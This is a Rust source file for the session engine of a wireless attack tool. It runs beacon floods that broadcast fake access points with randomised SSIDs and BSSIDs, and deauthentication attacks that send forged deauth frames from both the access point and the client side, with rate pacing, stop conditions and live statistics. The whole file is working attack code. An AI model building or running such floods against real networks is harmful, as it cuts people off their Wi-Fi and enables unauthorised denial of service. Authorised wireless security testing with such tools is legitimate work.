use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use rand::rngs::ThreadRng;
use rand::Rng;

use libdot11::frame::components::MacAddress;
use libdot11::frame::{BeaconSpec, DeauthSpec, Direction};
use libdot11::{encode, EncodedFrame, FrameSpec};

use crate::config::{BeaconConfig, BssidSource, DeauthConfig, SsidSource, StopConditions};
use crate::error::{AttackError, ConfigErrors};
use crate::generator::IdentityGenerator;
use crate::governor::RateGovernor;
use crate::injector::{FrameInjector, InjectError};
use crate::stats::{render_live, ReportKind, Statistics, StatsSnapshot};
use crate::status::MessageLog;

/// Send errors rendered in full. Later ones are only counted.
pub const MAX_SHOWN_FAILURES: u64 = 5;

/// Deauth sessions print a live line every this many cycles.
pub const DEAUTH_REPORT_CYCLES: u64 = 10;

#[derive(Copy, Clone, Debug, PartialEq, Eq, strum_macros::Display)]
pub enum StopReason {
    #[strum(serialize = "Cancelled by user")]
    UserCancelled,
    #[strum(serialize = "Count reached")]
    CountReached,
    #[strum(serialize = "Duration reached")]
    DurationReached,
    #[strum(serialize = "Injector failure")]
    InjectorFailureFatal,
}

/// `Idle -> Running -> Stopping(reason) -> Terminated`
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
pub enum SessionState {
    /// Constructed, injector not acquired yet.
    Idle,
    Running,
    /// No more frames go out.
    Stopping(StopReason),
    /// Injector released.
    Terminated,
}

/// When live statistics are drawn.
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
pub enum ReportPolicy {
    Off,
    Interval(Duration),
    EveryCycles(u64),
}

/// Outcome of a finished session.
#[derive(Clone, Debug, PartialEq)]
pub struct SessionReport {
    pub reason: StopReason,
    pub snapshot: StatsSnapshot,
    /// Loop iterations. A deauth cycle sends two frames.
    pub cycles: u64,
}

impl SessionReport {
    /// At least one frame made it out.
    pub fn success(&self) -> bool {
        self.snapshot.frames_sent >= 1
    }

    pub fn exit_code(&self) -> i32 {
        if self.success() {
            0
        } else {
            1
        }
    }
}

type BeaconDraw = (EncodedFrame, String, MacAddress);

/// Beacon template, SSID and BSSID are drawn per cycle.
struct BeaconPlan {
    ssid: SsidSource,
    bssid: BssidSource,
    channel: u8,
    beacon_interval: u16,
    capability_info: u16,
    /// A previewed frame, sent as the next cycle.
    queued: Option<BeaconDraw>,
}

impl BeaconPlan {
    fn draw<R: Rng>(
        &self,
        generator: &mut IdentityGenerator<R>,
    ) -> Result<BeaconDraw, AttackError> {
        let ssid = generator.next_ssid(&self.ssid);
        let bssid = generator.next_bssid(&self.bssid);
        let frame = encode(&FrameSpec::Beacon(BeaconSpec {
            ssid: ssid.clone(),
            bssid,
            channel: self.channel,
            beacon_interval: self.beacon_interval,
            capability_info: self.capability_info,
        }))?;

        Ok((frame, ssid, bssid))
    }

    fn next_frame<R: Rng>(
        &mut self,
        generator: &mut IdentityGenerator<R>,
    ) -> Result<BeaconDraw, AttackError> {
        match self.queued.take() {
            Some(draw) => Ok(draw),
            None => self.draw(generator),
        }
    }

    fn peek_frame<R: Rng>(
        &mut self,
        generator: &mut IdentityGenerator<R>,
    ) -> Result<EncodedFrame, AttackError> {
        let draw = self.next_frame(generator)?;
        let frame = draw.0.clone();
        self.queued = Some(draw);
        Ok(frame)
    }
}

enum Plan {
    Beacon(BeaconPlan),
    /// Both directions are fixed for the whole session, so they are encoded once.
    Deauth {
        from_ap: EncodedFrame,
        from_client: EncodedFrame,
    },
}

enum Delivery {
    Sent,
    Failed,
    Fatal,
}

/// Runs one beacon flood or deauthentication attack against a [FrameInjector].
///
/// The session owns its statistics and status log. The only shared state is
/// the `running` flag, cleared from a signal handler to cancel.
pub struct AttackSession<R: Rng = ThreadRng> {
    plan: Plan,
    interface: String,
    stop: StopConditions,
    governor: RateGovernor,
    running: Arc<AtomicBool>,
    generator: IdentityGenerator<R>,
    stats: Statistics,
    log: MessageLog,
    state: SessionState,
    report: ReportPolicy,
}

fn governor_for(rate: f64) -> Result<RateGovernor, AttackError> {
    RateGovernor::new(rate).map_err(|problem| {
        let mut errors = ConfigErrors::new();
        errors.push(problem);
        AttackError::Configuration(errors)
    })
}

impl AttackSession<ThreadRng> {
    pub fn beacon(
        config: &BeaconConfig,
        running: Arc<AtomicBool>,
        log: MessageLog,
    ) -> Result<Self, AttackError> {
        config.validate()?;

        let report = if config.show_stats {
            ReportPolicy::Interval(config.stats_interval)
        } else {
            ReportPolicy::Off
        };

        Ok(AttackSession {
            plan: Plan::Beacon(BeaconPlan {
                ssid: config.ssid.clone(),
                bssid: config.bssid,
                channel: config.channel,
                beacon_interval: config.beacon_interval,
                capability_info: config.capability_info,
                queued: None,
            }),
            interface: config.interface.clone(),
            stop: config.stop_conditions(),
            governor: governor_for(config.rate)?,
            running,
            generator: IdentityGenerator::new(),
            stats: Statistics::new(),
            log,
            state: SessionState::Idle,
            report,
        })
    }

    pub fn deauth(
        config: &DeauthConfig,
        running: Arc<AtomicBool>,
        log: MessageLog,
    ) -> Result<Self, AttackError> {
        config.validate()?;

        let spec = |direction| {
            FrameSpec::Deauthentication(DeauthSpec {
                bssid: config.bssid,
                client: config.target.address(),
                direction,
                reason: config.reason,
            })
        };
        let from_ap = encode(&spec(Direction::FromAp))?;
        let from_client = encode(&spec(Direction::FromClient))?;

        let report = if config.quiet {
            ReportPolicy::Off
        } else {
            ReportPolicy::EveryCycles(DEAUTH_REPORT_CYCLES)
        };

        Ok(AttackSession {
            plan: Plan::Deauth {
                from_ap,
                from_client,
            },
            interface: config.interface.clone(),
            stop: config.stop_conditions(),
            governor: governor_for(config.rate)?,
            running,
            generator: IdentityGenerator::new(),
            stats: Statistics::new(),
            log,
            state: SessionState::Idle,
            report,
        })
    }
}

impl<R: Rng> AttackSession<R> {
    /// Swap the random source, e.g. for a seeded one.
    pub fn with_rng<S: Rng>(self, rng: S) -> AttackSession<S> {
        AttackSession {
            plan: self.plan,
            interface: self.interface,
            stop: self.stop,
            governor: self.governor,
            running: self.running,
            generator: IdentityGenerator::with_rng(rng),
            stats: self.stats,
            log: self.log,
            state: self.state,
            report: self.report,
        }
    }

    pub fn with_report_policy(mut self, report: ReportPolicy) -> Self {
        self.report = report;
        self
    }

    pub fn state(&self) -> SessionState {
        self.state
    }

    pub fn stats(&self) -> &Statistics {
        &self.stats
    }

    pub fn log(&self) -> &MessageLog {
        &self.log
    }

    pub fn log_mut(&mut self) -> &mut MessageLog {
        &mut self.log
    }

    pub fn governor(&self) -> &RateGovernor {
        &self.governor
    }

    pub fn kind(&self) -> ReportKind {
        match self.plan {
            Plan::Beacon(_) => ReportKind::Beacon,
            Plan::Deauth { .. } => ReportKind::Deauth,
        }
    }

    /// The first frame the session will send, without sending it.
    ///
    /// For beacons the drawn identity is kept and used by the next cycle.
    pub fn preview_frame(&mut self) -> Result<EncodedFrame, AttackError> {
        match &mut self.plan {
            Plan::Beacon(plan) => plan.peek_frame(&mut self.generator),
            Plan::Deauth { from_ap, .. } => Ok(from_ap.clone()),
        }
    }

    /// Acquire the injector, transmit until a stop condition holds, release it.
    ///
    /// `open` is only called once the session is known to be runnable, so a
    /// configuration problem never touches the interface. The injector is
    /// dropped on every exit path.
    pub fn run<I, F>(&mut self, open: F) -> Result<SessionReport, AttackError>
    where
        I: FrameInjector,
        F: FnOnce(&str) -> Result<I, AttackError>,
    {
        if self.state != SessionState::Idle {
            return Err(AttackError::AlreadyRun);
        }

        let mut injector = match open(&self.interface) {
            Ok(injector) => injector,
            Err(e) => {
                self.state = SessionState::Terminated;
                return Err(e);
            }
        };

        let outcome = self.drive(&mut injector);
        drop(injector);
        self.log.finish_live();
        self.state = SessionState::Terminated;

        let (reason, cycles) = outcome?;
        Ok(SessionReport {
            reason,
            snapshot: self.stats.snapshot(),
            cycles,
        })
    }

    fn drive<I: FrameInjector>(&mut self, injector: &mut I) -> Result<(StopReason, u64), AttackError> {
        self.stats.start();
        self.state = SessionState::Running;
        self.log.priority(format!(
            "Transmitting on {} ({})",
            self.interface, self.stop
        ));

        let mut cycles = 0u64;
        let reason = loop {
            if !self.running.load(Ordering::SeqCst) {
                break StopReason::UserCancelled;
            }

            let fatal = self.cycle(injector)?;
            cycles += 1;

            if fatal {
                break StopReason::InjectorFailureFatal;
            }

            self.report_progress(cycles);

            if let Some(reason) = self.check_stop(cycles) {
                break reason;
            }

            self.governor.pace(&self.running);
        };

        self.state = SessionState::Stopping(reason);
        self.log.finish_live();
        self.log.info(format!("Stopping: {}", reason));

        Ok((reason, cycles))
    }

    /// Cancellation first, then count, then duration.
    fn check_stop(&self, cycles: u64) -> Option<StopReason> {
        if !self.running.load(Ordering::SeqCst) {
            return Some(StopReason::UserCancelled);
        }
        if let Some(max_count) = self.stop.max_count {
            if cycles >= max_count {
                return Some(StopReason::CountReached);
            }
        }
        if let Some(max_duration) = self.stop.max_duration {
            if self.stats.elapsed() >= max_duration {
                return Some(StopReason::DurationReached);
            }
        }
        None
    }

    /// One loop iteration: a beacon, or a deauth pair. True on a fatal injector error.
    fn cycle<I: FrameInjector>(&mut self, injector: &mut I) -> Result<bool, AttackError> {
        match &mut self.plan {
            Plan::Beacon(plan) => {
                let (frame, ssid, bssid) = plan.next_frame(&mut self.generator)?;
                let delivery = deliver(
                    &mut self.stats,
                    &mut self.log,
                    injector,
                    frame.as_bytes(),
                    "beacon",
                );
                match delivery {
                    Delivery::Sent => {
                        self.stats.record_identity(&ssid, bssid);
                        Ok(false)
                    }
                    Delivery::Failed => Ok(false),
                    Delivery::Fatal => Ok(true),
                }
            }
            Plan::Deauth {
                from_ap,
                from_client,
            } => {
                for frame in [from_ap, from_client] {
                    let delivery = deliver(
                        &mut self.stats,
                        &mut self.log,
                        injector,
                        frame.as_bytes(),
                        "deauthentication",
                    );
                    if let Delivery::Fatal = delivery {
                        return Ok(true);
                    }
                }
                Ok(false)
            }
        }
    }

    fn report_progress(&mut self, cycles: u64) {
        let due = match self.report {
            ReportPolicy::Off => false,
            ReportPolicy::Interval(interval) => self.stats.due_for_report(interval),
            ReportPolicy::EveryCycles(every) => every > 0 && cycles % every == 0,
        };
        if !due {
            return;
        }

        let line = render_live(&self.stats.snapshot(), self.kind());
        self.stats.mark_reported();
        if let Err(e) = self.log.live(&line) {
            self.report = ReportPolicy::Off;
            self.log
                .warning(format!("Live statistics disabled, terminal error: {}", e));
        }
    }
}

/// Hand one frame to the injector and account for the result.
fn deliver<I: FrameInjector>(
    stats: &mut Statistics,
    log: &mut MessageLog,
    injector: &mut I,
    frame: &[u8],
    label: &str,
) -> Delivery {
    match injector.inject(frame) {
        Ok(()) => {
            stats.record_success();
            Delivery::Sent
        }
        Err(e) => {
            stats.record_failure();
            if e.is_fatal() {
                log.error(format!("Stopping, {}", e));
                return Delivery::Fatal;
            }
            render_failure(log, stats.frames_failed(), label, &e);
            Delivery::Failed
        }
    }
}

fn render_failure(log: &mut MessageLog, failures: u64, label: &str, error: &InjectError) {
    if failures <= MAX_SHOWN_FAILURES {
        log.error(format!("Error sending {} frame: {}", label, error));
    }
    if failures == MAX_SHOWN_FAILURES {
        log.warning("Further send errors are counted but not shown");
    }
}
